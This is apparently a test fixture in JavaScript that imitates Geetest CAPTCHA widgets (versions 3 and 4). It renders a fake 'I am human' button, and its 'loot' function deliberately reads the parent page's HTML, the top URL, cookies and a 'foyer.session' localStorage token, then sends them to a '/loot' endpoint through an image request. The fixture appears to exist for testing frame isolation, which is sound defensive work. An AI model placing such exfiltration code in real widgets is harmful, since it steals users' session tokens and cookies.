// Plays both of Geetest's widgets for tests: it offers a button, and meanwhile tries what a hostile script would.
(() => {
  const base = new URL(document.currentScript.src).origin;
  const parts = { ready: [], success: [], error: [], close: [] };
  const say = (part) => parts[part].forEach((then) => then());
  let validated = false;

  /** Whatever can be read of the page around the frame is carried off. */
  const loot = (from) => {
    const found = {};
    const look = (name, read) => {
      try {
        found[name] = String(read());
      } catch (error) {
        found[name] = error.name;
      }
    };
    look('parent', () => parent.document.body.innerHTML);
    look('top', () => top.location.href);
    look('cookie', () => document.cookie);
    look('token', () => localStorage.getItem('foyer.session'));
    look('origin', () => origin);
    new Image().src = `${from}/loot?found=${encodeURIComponent(JSON.stringify(found))}`;
  };

  const ask = (address) =>
    new Promise((resolve, reject) => {
      const name = `geetest_${Date.now()}`;
      window[name] = resolve;
      const script = document.createElement('script');
      script.src = `${base}${address}&callback=${name}`;
      script.addEventListener('error', reject);
      document.head.append(script);
    });

  const button = (words, act) => {
    const element = document.createElement('button');
    element.textContent = words;
    element.style.cssText = 'display:block;margin:16px auto;padding:16px';
    element.addEventListener('click', act);
    document.body.append(element);
  };

  const widgetFor = (config, passing, then) => {
    const draw = () => {
      const style = document.createElement('style');
      style.textContent = `body{font:16px sans-serif;text-align:center}`;
      document.head.append(style);
      button(`I am human (${config.language ?? config.lang ?? 'no language'})`, async () => {
        validated = await ask(passing);
        say('success');
      });
      button('Leave', () => say('close'));
    };
    const on = (part) => (listener) => {
      parts[part].push(listener);
      return widget;
    };
    const widget = {
      onReady: on('ready'),
      onSuccess: on('success'),
      onError: on('error'),
      onClose: on('close'),
      getValidate: () => validated,
      [config.captchaId ? 'showCaptcha' : 'verify']: draw,
    };
    then(widget);
    loot(base);
    setTimeout(() => say('ready'), 0);
  };

  if (document.currentScript.src.endsWith('/gt4.js'))
    window.initGeetest4 = (config, then) => widgetFor(config, '/pass?version=4', then);
  else window.initGeetest = (config, then) => widgetFor(config, `/pass?version=3&challenge=${config.challenge}`, then);
})();
